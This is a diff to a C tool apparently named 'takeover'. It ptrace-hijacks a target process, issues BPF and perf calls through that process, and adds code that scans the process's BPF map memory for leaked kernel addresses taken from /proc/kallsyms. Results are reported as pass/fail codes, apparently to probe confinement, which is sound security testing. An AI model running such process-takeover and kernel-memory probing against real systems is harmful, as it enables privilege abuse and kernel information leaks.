@@ -18,6 +18,7 @@
 #include <linux/perf_event.h>
 #include <linux/sched.h>
 #include <signal.h>
+#include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -295,14 +296,21 @@ static long try_bpf(struct victim *v, int command, union bpf_attr *attr)
 	return CALL(v, SYS_bpf, (uint64_t)command, put(v, attr, sizeof(*attr)), sizeof(*attr));
 }
 
-/* A program that takes its arguments from the caller would read whatever is there. */
-static void try_program(struct victim *v, int fd, uint64_t address)
+static long run_program(struct victim *v, int fd, uint64_t address)
 {
 	uint64_t args[2] = { address, 0 };
 	union bpf_attr attr = { .test = { .prog_fd = (uint32_t)fd, .ctx_size_in = sizeof(args) } };
 
 	attr.test.ctx_in = put(v, args, sizeof(args));
-	say("bpf_run_program", fd, try_bpf(v, BPF_PROG_TEST_RUN, &attr));
+	return try_bpf(v, BPF_PROG_TEST_RUN, &attr);
+}
+
+/* A program that takes addresses from the caller would read what is there: see find_record(). */
+static void try_program(struct victim *v, int fd, uint64_t address)
+{
+	union bpf_attr attr;
+
+	say("bpf_run_program", fd, run_program(v, fd, address));
 	attr = (union bpf_attr){ .raw_tracepoint = { .prog_fd = (uint32_t)fd } };
 	say("bpf_attach_program", fd, try_bpf(v, BPF_RAW_TRACEPOINT_OPEN, &attr));
 }
@@ -342,6 +350,38 @@ static void try_perf(struct victim *v, int fd)
 	say("perf_set_bpf", fd, CALL(v, SYS_ioctl, (uint64_t)fd, PERF_EVENT_IOC_SET_BPF, 0));
 }
 
+/* Whether a record of the object "at" @address has been sent: it begins with that address. */
+static bool has_record(const struct victim *v, uint64_t from, uint64_t to, uint64_t address)
+{
+	struct iovec local = { malloc(to - from), to - from }, remote = { (void *)from, to - from };
+	ssize_t n = process_vm_readv(v->pid, &local, 1, &remote, 1, 0);
+	bool found = n > 0 && memmem(local.iov_base, (size_t)n, &address, sizeof(address));
+
+	free(local.iov_base);
+	return found;
+}
+
+static void find_record(const struct victim *v, uint64_t address)
+{
+	unsigned long from, to;
+	char path[64], line[512];
+	long found = 0, maps = 0;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "/proc/%d/maps", v->pid);
+	f = fopen(path, "re");
+	while (f && fgets(line, sizeof(line), f)) {
+		if (!strstr(line, "bpf-map") || sscanf(line, "%lx-%lx", &from, &to) != 2)
+			continue;
+		maps++;
+		found += has_record(v, from, to, address);
+	}
+	if (f)
+		fclose(f);
+	say("control_rings", 0, maps ? maps : -ENOENT);
+	say("kernel_memory", 0, found ? found : -ENODATA);
+}
+
 static void try_descriptor(struct victim *v, int fd, const char *what, uint64_t address)
 {
 	if (strstr(what, "bpf-prog"))
@@ -354,25 +394,24 @@ static void try_descriptor(struct victim *v, int fd, const char *what, uint64_t 
 		try_perf(v, fd);
 }
 
+/* Kernel memory that is no socket, nor the return address of a call. */
 static uint64_t kernel_text(void)
 {
 	FILE *f = fopen("/proc/kallsyms", "re");
 	unsigned long long at = 0;
-	char name[128];
+	char name[128] = "";
 
-	while (f && fscanf(f, "%llx %*c %127[^\n]", &at, name) == 2) {
-		if (!strcmp(name, "_text") || !strcmp(name, "_stext"))
-			break;
-	}
+	while (f && fscanf(f, "%llx %*c %127[^\n]", &at, name) == 2 && strcmp(name, "_stext"))
+		;
 	if (f)
 		fclose(f);
-	return at;
+	say("control_address", 0, at && !strcmp(name, "_stext") ? 0 : -ENOENT);
+	return at + 3;
 }
 
-static void try_descriptors(struct victim *v)
+static void try_descriptors(struct victim *v, uint64_t address)
 {
 	char dir[64], path[320], what[256];
-	uint64_t address = kernel_text();
 	struct dirent *e;
 	ssize_t n;
 	DIR *d;
@@ -447,6 +486,7 @@ static void take(struct victim *v)
 int main(int argc, char **argv)
 {
 	struct victim v = { 0 };
+	uint64_t address;
 
 	if (argc < 2) {
 		fprintf(stderr, "usage: takeover PID [TID]\n");
@@ -455,13 +495,15 @@ int main(int argc, char **argv)
 	v.pid = atoi(argv[1]);
 	v.tid = argc > 2 ? atoi(argv[2]) : other_thread(v.pid);
 	take(&v);
+	address = kernel_text();
 	try_controls(&v);
 	try_processes(&v);
 	try_code(&v);
 	try_files(&v);
 	try_network(&v);
 	try_new_bpf(&v);
-	try_descriptors(&v);
+	try_descriptors(&v, address);
+	find_record(&v, address);
 	set_regs(v.tid, &v.saved);
 	return ptrace(PTRACE_DETACH, v.tid, 0, 0) ? 2 : 0;
 }
